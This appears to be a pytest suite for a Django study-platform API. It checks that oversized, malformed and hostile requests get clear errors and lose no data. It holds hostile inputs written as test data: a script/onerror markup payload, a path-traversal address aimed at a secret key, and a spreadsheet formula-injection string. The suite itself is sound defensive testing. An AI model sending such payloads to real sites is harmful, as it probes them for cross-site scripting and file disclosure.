"""Hostile bodies, headers and addresses: a clear error each time, and no data is lost."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.test.client import ClientHandler
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from experiments.models import Gate, Response, Session, Study
from tests.experiments.api.test_openapi import errors_of
from tests.world import Person

pytestmark = [pytest.mark.django_db, pytest.mark.both_databases("JSON, what a text may hold")]

STEPS = ("device", "consent", "plates", "instructions", "quiz", "practice", "questions")
POSTS = (
    "/api/sessions/",
    *(f"/api/session/{step}/" for step in (*STEPS, "responses", "events", "finish", "withdraw")),
)
MARKUP = "<script>alert('x')</script>\"><img src=x onerror=alert(1)> & {title} {{title}} </textarea>"
FORMULA = '=HYPERLINK("http://example.org/?x="&A1;"click")'


@pytest.fixture
def ada(small: Study) -> Person:
    person = Person("ada")
    person.arrive()
    return person


def refused(reply: Any, status: int, code: str) -> dict[str, Any]:
    assert reply.status_code == status, reply.content
    body = json.loads(reply.content)
    assert errors_of("Error", body) == []
    detail: dict[str, Any] = body["error"]
    assert detail["code"] == code and detail["message"] and detail["remedy"]
    return detail


class Endless(io.RawIOBase):
    """A body that counts how much of it is read."""

    def __init__(self, size: int) -> None:
        self.size, self.given = size, 0

    def readable(self) -> bool:
        return True

    def read(self, size: int = -1) -> bytes:
        left = self.size - self.given
        size = left if size < 0 else min(size, left)
        self.given += size
        return b"[" * size


@pytest.mark.long(stays="test_it_takes_a_body_up_to_the_limit")
def test_it_refuses_ten_megabytes_without_reading_them(ada: Person) -> None:
    for path in POSTS:
        body = Endless(10_000_000)
        environ = {
            "REQUEST_METHOD": "POST", "PATH_INFO": path, "SCRIPT_NAME": "", "SERVER_NAME": "localhost",
            "SERVER_PORT": "80", "SERVER_PROTOCOL": "HTTP/1.1", "wsgi.url_scheme": "http", "wsgi.input": body,
            "CONTENT_TYPE": "application/json", "CONTENT_LENGTH": str(body.size),
            "HTTP_AUTHORIZATION": f"Bearer {ada.token}",
        }  # fmt: skip
        refused(ClientHandler()(environ), 413, "too_large")
        assert body.given <= 256 * 1024 + 1


def test_it_takes_a_body_up_to_the_limit(ada: Person) -> None:
    first = ada.good_response(ada.trials()[0])
    body = json.dumps({"responses": [first]})
    assert (
        ada.call("POST", "/api/session/responses/", body + " " * (256 * 1024 - len(body))).status_code == 200
    )
    reply = ada.call("POST", "/api/session/responses/", body + " " * (256 * 1024 - len(body) + 1))
    refused(reply, 413, "too_large")


BODIES: list[bytes] = [
    b"[" * 100_000,
    b"[" * 100_000 + b"]" * 100_000,
    b'{"a":' * 40_000 + b"1" + b"}" * 40_000,
    b'{"responses":' + b"[" * 21 + b"]" * 21 + b"}",
    b'{"responses": "\x00"}',
    b'{"responses": "\\u0000"}',
    b'{"\\u0000": 1}',
    b'{"responses": "\\ud800"}',
    b'{"responses": "\\udfff x"}',
    b'{"\\ud800": 1}',
    b'{"responses": 9223372036854775808}',
    b'{"responses": -9223372036854775809}',
    b'{"responses": ' + b"9" * 5000 + b"}",
    b'{"responses": 1e999}',
    b'{"responses": -1e999}',
    b'{"responses": NaN}',
    b'{"responses": Infinity}',
    b'{"responses": -Infinity}',
    b'{"responses": "\xff"}',
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}",
    b" ",
    b"{",
    b"null",
    b"true",
    b"1",
    b'"text"',
    b"[]",
    b'{"responses": []} x',
    b"{'responses': []}",
    b'{"responses": [],}',
    b"\x1f\x8b\x08\x00",
]


def test_it_says_what_is_wrong_with_every_body(ada: Person) -> None:
    for path in POSTS:
        for body in BODIES:
            reply = ada.client.generic(
                "POST",
                path,
                body,
                content_type="application/json",
                headers={"Authorization": f"Bearer {ada.token}"},
            )
            refused(reply, 400, "invalid")
    assert not Response.objects.exists() and ada.refresh()["next"] == 0


def test_it_refuses_wild_values_in_every_place_of_an_answer(ada: Person) -> None:
    good = ada.good_response(ada.trials()[0])
    wild = ['"\\u0000"', '"\\ud800"', "9223372036854775808", "-1e999", "NaN", "[" * 19 + "]" * 19]
    for name in good:
        for text in wild:
            body = json.dumps({"responses": [{**good, name: "?"}]}).replace('"?"', text)
            refused(ada.call("POST", "/api/session/responses/", body), 400, "invalid")
    assert not Response.objects.exists()


def test_it_takes_json_only(ada: Person) -> None:
    headers = {"Authorization": f"Bearer {ada.token}"}
    body = json.dumps({"responses": [ada.good_response(ada.trials()[0])]})
    for kind in (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "x",
        "///",
    ):
        reply = ada.client.generic(
            "POST", "/api/session/responses/", body, content_type=kind, headers=headers
        )
        assert "application/json" in refused(reply, 400, "invalid")["remedy"]
    kind = "application/json; charset=utf-8"
    reply = ada.client.generic("POST", "/api/session/responses/", body, content_type=kind, headers=headers)
    assert reply.status_code == 200


def test_it_survives_garbage_in_headers(ada: Person) -> None:
    body = {"responses": [ada.good_response(ada.trials()[0])]}
    garbage = [
        "",
        " ",
        "Bearer",
        "Bearer ",
        "Basic eDp5",
        "Bearer \x00",
        "Bearer \xff\xfe",
        "Bearer " + "x" * 60_000,
    ]
    for value in garbage:
        headers = {"Authorization": value}
        refused(ada.client.get("/api/session/", headers=headers), 401, "no_session")
        reply = ada.client.post("/api/session/responses/", body, "application/json", headers=headers)
        refused(reply, 401, "no_session")
    good = {"Authorization": f"Bearer {ada.token}"}
    for name in (
        "Accept",
        "Accept-Language",
        "Cookie",
        "Content-Length",
        "X-Forwarded-For",
        "If-None-Match",
        "Range",
    ):
        for value in ("\xff\xfe", "x" * 9000, "*/*;q=\u00b2", ";;;===", "-1"):
            reply = ada.client.get("/api/session/", headers={**good, name: value})
            assert reply.status_code < 500, (name, value)


def test_it_names_methods_that_it_does_not_serve(ada: Person) -> None:
    headers = {"Authorization": f"Bearer {ada.token}"}
    for path in (*POSTS, "/api/session/"):
        for method in ("PUT", "PATCH", "DELETE", "GET" if path != "/api/session/" else "POST"):
            reply = ada.client.generic(method, path, b"{}", content_type="application/json", headers=headers)
            assert reply.status_code == 405 and errors_of("Error", reply.json()) == []


def test_it_finds_no_picture_under_a_made_up_address(ada: Person) -> None:
    url = ada.state["block"]["trials"][0]["content"]["image"]["url"]
    assert ada.client.get(url).status_code == 200
    made_up = [
        "/m/" + "A" * 44,
        url[:-1],
        url + "A",
        url[:-1] + ("A" if url[-1] != "A" else "B"),
        "/m/%00" + "A" * 43,
    ]
    made_up += [
        "/m/" + "\u0663" * 44,
        "/m/" + "A" * 9000,
        "/m/..%2f..%2fsecret-key",
        url.replace("/m/", "/m/%0a"),
    ]
    for address in made_up:
        assert ada.client.get(address).status_code == 404, address
    assert ada.client.post(url).status_code == 405


@pytest.mark.parametrize(
    "query",
    [
        "?person=%00&submission=%00",
        "?person=x&submission=x&simulated=%00",
        "?person=x&simulated==1%2B1",
        "?person=" + "x" * 201,
        "?" + "&".join(f"a{i}=1" for i in range(21)),
        "?" + "&".join(f"preview={i}" for i in range(21)),
        "?preview=%00",
        "?preview=" + "A" * 1500,
        "?person=%ED%A0%80",
        "person",
        "",
        "?" + "&" * 1900,
    ],
)  # fmt: skip
def test_it_survives_every_query_string(small: Study, query: str) -> None:
    reply = Client().post(
        "/api/sessions/",
        {"study": "small", "platform": "local", "query": query},
        content_type="application/json",
    )
    assert reply.status_code in {201, 400, 403}, reply.content
    assert errors_of("Joined" if reply.status_code == 201 else "Error", reply.json()) == []


def test_it_knows_no_other_study_or_platform(small: Study) -> None:
    for study, platform in (
        ("smal", "local"),
        ("small", "mturk"),
        ("SMALL", "local"),
        ("'", "local"),
        ("small", "%"),
    ):
        body = {"study": study, "platform": platform, "query": "?person=x"}
        refused(Client().post("/api/sessions/", body, content_type="application/json"), 404, "no_study")
    for wrong in ({}, {"study": 1}, {"study": "x" * 65, "platform": "", "query": ""}):
        refused(Client().post("/api/sessions/", wrong, content_type="application/json"), 400, "invalid")


# Markup and formulas in free text


def test_it_stores_markup_as_it_was_written_and_never_answers_with_it(small: Study) -> None:
    ada = Person("ada")
    ada.arrive()
    ada.answer()
    assert ada.gate({"strategy": MARKUP}).status_code == 200
    ended = ada.finish(MARKUP)
    assert ada.session().comment == MARKUP
    assert Gate.objects.get(kind="questions_after").value == {"strategy": MARKUP}
    for reply in (ended, ada.call("GET", "/api/session/")):
        assert reply["Content-Type"] == "application/json" and reply["X-Content-Type-Options"] == "nosniff"
        assert b"<script" not in reply.content and b"onerror" not in reply.content


def test_it_does_not_send_markup_back_in_errors(ada: Person) -> None:
    first = ada.good_response(ada.trials()[0])
    for wrong in ({**first, "trial": "<b>x</b>"}, {**first, "<b>x</b>": 1}, {**first, "value": {"<b>": 1}}):
        reply = ada.respond(wrong)
        refused(reply, 400, "invalid")
        assert reply["Content-Type"] == "application/json" and reply["X-Content-Type-Options"] == "nosniff"


def test_it_makes_free_text_harmless_in_a_spreadsheet(small: Study, tmp_path: Path) -> None:
    from analysis.exports.study_export import Request, export_study

    ada = Person("ada")
    ada.arrive()
    ada.answer()
    ada.gate({"strategy": FORMULA})
    ada.finish("\t" + FORMULA)
    session = Session.objects.get()
    assert session.comment == "\t" + FORMULA
    export_study(small, tmp_path / "out", Request())
    cells = []
    for file in (tmp_path / "out").rglob("*.csv"):
        with file.open(encoding="utf-8", newline="") as handle:
            cells += [cell for row in csv.reader(handle) for cell in row]
    assert any(FORMULA in cell for cell in cells)
    starts = {cell.lstrip()[:1] for cell in cells if not is_number(cell)}
    assert not starts & set("=+-@\t\r")


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


# Everything else


TEXTS = st.text(st.characters(codec=None), max_size=20) | st.sampled_from(
    ["left", "\x00", "\ud800", MARKUP, "9" * 30]
)
LEAVES = st.none() | st.booleans() | st.integers() | st.floats() | TEXTS | st.integers(2**62, 2**70)
VALUES = st.recursive(
    LEAVES, lambda inner: st.lists(inner, max_size=4) | st.dictionaries(TEXTS, inner, max_size=4)
)
NAMES = st.sampled_from(
    ["study", "platform", "query", "digest", "value", "responses", "events", "comment", "reason", "erase"]
    + ["trial", "rt_ms", "shown_ms", "context", "id", "kind", "at_ms", "data", "agree", "read", "width_px"]
    + ["task", "expertise"]
)
OBJECTS = st.recursive(
    VALUES,
    lambda inner: st.dictionaries(NAMES, inner, max_size=5) | st.lists(inner, max_size=2),
    max_leaves=12,
)
RAW = st.binary(max_size=60) | OBJECTS.map(lambda value: json.dumps(value).encode())


@settings(
    max_examples=150,
    deadline=None,
    derandomize=True,
    database=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(path=st.sampled_from(POSTS), body=RAW, near=st.booleans(), wild=OBJECTS)
def test_it_never_breaks(ada: Person, path: str, body: bytes, near: bool, wild: Any) -> None:
    """Bodies of any shape, and the right shape with one wild value, at every address."""
    if near:
        good = ada.good_response(ada.trials()[0])
        shapes: dict[str, Any] = {
            "responses": {"responses": [{**good, "value": wild}, {**good, "context": wild}]},
            "events": {"events": [{"id": "0" * 32, "kind": "paste", "at_ms": 1, "data": {"x": wild}}]},
            "finish": {"comment": wild},
            "withdraw": {"reason": wild, "erase": False},
            "sessions": {"study": "small", "platform": "local", "query": wild},
        }
        named = path.rstrip("/").rpartition("/")[2]
        body = json.dumps(shapes.get(named, {"digest": "0", "value": wild})).encode()
    headers = {"Authorization": f"Bearer {ada.token}"}
    reply = ada.client.generic("POST", path, body, content_type="application/json", headers=headers)
    assert reply.status_code < 500
    if reply.status_code >= 400:
        assert errors_of("Error", reply.json()) == []
